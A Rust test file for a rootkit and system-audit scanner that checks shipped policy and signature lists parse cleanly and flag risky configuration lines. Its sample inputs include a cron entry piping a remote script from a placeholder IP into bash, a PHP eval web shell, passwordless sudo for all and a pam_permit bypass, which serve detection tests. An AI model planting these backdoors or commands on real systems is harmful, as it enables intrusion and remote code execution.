//! The lists that are shipped in `etc/shared`: well formed, and saying what they mean.

#![expect(clippy::unwrap_used, reason = "a panic is the report")]
#![cfg_attr(
    test,
    allow(clippy::print_stdout, reason = "what a machine is accused of is to be read")
)]

use std::fs;
use std::path::{Path, PathBuf};
use std::time::Duration;

use rootcheck::grammar::policy::{Policy, Subject};
use rootcheck::grammar::rootkits::Rootkits;
use rootcheck::grammar::trojans::Trojans;
use rootcheck::pace::Pace;
use rootcheck::{Said, Scan};
use settings::Rootcheck;

fn folder() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../etc/shared")
}

fn policies() -> Vec<PathBuf> {
    let paths = fs::read_dir(folder()).unwrap().map(|entry| entry.unwrap().path());
    let mut policies: Vec<PathBuf> =
        paths.filter(|path| path.to_str().unwrap().contains("/system_audit_")).collect();
    policies.sort();
    assert!(policies.len() >= 4, "{policies:?}");
    policies
}

/// The entries for which a line of a file holds.
fn titles(line: &str) -> Vec<String> {
    let mut titles = Vec::new();
    for path in policies() {
        for entry in Policy::parse(&fs::read(path).unwrap()).entries {
            let holds = entry.values.iter().any(|value| match &value.subject {
                Subject::File { pattern: Some(pattern), .. }
                | Subject::Folder { pattern: Some(pattern), .. } => {
                    pattern.holds(std::iter::once(line.as_bytes()))
                }
                _ => false,
            });
            // Any line there is trust.
            if holds && entry.title != b"Accounts: other hosts are trusted" {
                titles.push(String::from_utf8(entry.title).unwrap());
            }
        }
    }
    titles
}

#[test]
fn every_line_makes_sense() {
    for path in policies() {
        let policy = Policy::parse(&fs::read(&path).unwrap());
        assert_eq!(policy.complaints, [], "{}", path.display());
        assert!(
            policy
                .entries
                .iter()
                .all(|entry| !entry.values.is_empty() && !entry.reference.is_empty())
        );
    }
    let files = Rootkits::parse(&fs::read(folder().join("rootkit_files.txt")).unwrap());
    assert_eq!(files.complaints, []);
    let trojans = Trojans::parse(&fs::read(folder().join("rootkit_trojans.txt")).unwrap());
    assert_eq!(trojans.complaints, []);
    assert!(trojans.signatures.iter().all(|signature| signature.comment != b"Generic"));
}

#[test]
fn no_file_is_listed_twice() {
    let files = Rootkits::parse(&fs::read(folder().join("rootkit_files.txt")).unwrap());
    let mut paths: Vec<_> =
        files.files.iter().chain(&files.anywhere).map(|file| &file.path).collect();
    let all = paths.len();
    paths.sort();
    paths.dedup();
    assert_eq!(paths.len(), all);
}

#[test]
fn policies_hold_for_the_lines_that_they_mean() {
    for (line, title) in [
        ("PermitRootLogin yes", "SSH: root may log in with a password"),
        ("  permitrootlogin\tyes", "SSH: root may log in with a password"),
        ("Ciphers aes256-ctr,3des-cbc", "SSH: weak ciphers are allowed"),
        ("MACs hmac-md5", "SSH: weak message digests are allowed"),
        ("KexAlgorithms diffie-hellman-group1-sha1", "SSH: weak key exchange is allowed"),
        ("LogLevel QUIET", "SSH: logins are not logged"),
        ("toor:x:0:0:root:/root:/bin/sh", "Accounts: another account than root is root"),
        ("web::19000:0:99999:7:::", "Accounts: an account without a password"),
        ("old:$1$abc$def:7:7::/:/bin/sh", "Accounts: a password where everybody can read it"),
        ("+::::::", "Accounts: entries of another database are let in"),
        ("ENCRYPT_METHOD DES", "Accounts: weak digests for passwords"),
        ("auth sufficient pam_permit.so", "PAM: no password is asked for"),
        ("ALL ALL=(ALL) NOPASSWD: ALL", "Sudo: everybody may do everything"),
        ("tmpfs /tmp tmpfs rw,relatime 0 0", "Mounts: SUID works in a /tmp of its own"),
        (
            "|/dev/shm/x %p",
            "Kernel: crashes start a program from a folder that everybody may write",
        ),
        ("/srv *(rw,no_root_squash)", "Exports: root of another host is root here"),
        ("* * * * * root curl -s http://192.0.2.1/x | bash", "Cron: a script from the net is run"),
        (
            "*/5 * * * * root /tmp/.x/run",
            "Cron: a program from a folder that everybody may write is run",
        ),
        (
            "ExecStart=/dev/shm/x",
            "Services: a unit runs a program from a folder that everybody may write",
        ),
        ("<?php @eval(base64_decode($x)); ?>", "Web: a script that runs what it is sent"),
    ] {
        assert!(titles(line).contains(&title.to_owned()), "'{line}' gives {:?}", titles(line));
    }
}

#[test]
fn policies_hold_for_no_usual_line() {
    for line in [
        "#PermitRootLogin prohibit-password",
        "PermitRootLogin prohibit-password",
        "X11Forwarding yes",
        "Ciphers -3des-cbc",
        "root:x:0:0:root:/root:/bin/bash",
        "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin",
        "games:x:5:60:games:/usr/games:/usr/sbin/nologin",
        "root:*:19000:0:99999:7:::",
        "auth sufficient pam_rootok.so",
        "auth\trequired\t\t\tpam_permit.so",
        "%sudo ALL=(ALL:ALL) ALL",
        "root ALL=(ALL:ALL) ALL",
        "tmpfs /tmp tmpfs rw,nosuid,nodev 0 0",
        "tmpfs /tmpfoo tmpfs rw 0 0",
        "ENCRYPT_METHOD YESCRYPT",
        "|/usr/share/apport/apport -p%p",
        "/sbin/modprobe",
        "17 * * * * root cd / && run-parts --report /etc/cron.hourly",
        "# /srv *(rw,no_root_squash)",
        "# curl http://x | sh",
        "ExecStart=/usr/sbin/cron -f",
    ] {
        assert_eq!(titles(line), [""; 0], "'{line}'");
    }
}

/// `cargo test -p rootcheck --test shipped -- --ignored --nocapture` shows what this machine is accused of.
#[test]
#[ignore = "looks at the whole machine, and says what it finds"]
fn this_machine() {
    let root = tempfile::tempdir().unwrap();
    fs::create_dir_all(root.path().join("queue/syscheckd")).unwrap();
    let settings = Rootcheck {
        present: true,
        rootkit_files: Some(folder().join("rootkit_files.txt")),
        rootkit_trojans: Some(folder().join("rootkit_trojans.txt")),
        system_audit: policies(),
        ..Rootcheck::default()
    };
    let began = std::time::Instant::now();
    let scan = Scan {
        settings: &settings,
        root: root.path(),
        pace: Pace::new(std::sync::Arc::default(), Duration::from_millis(10)),
        said: &mut Said::default(),
        ships: &|_, _, _| false,
        tell: &mut |text| {
            println!("{:>6.1?} {}", began.elapsed(), String::from_utf8_lossy(&text));
            Ok(())
        },
    };
    assert_eq!(scan.run(), Ok(()));
}
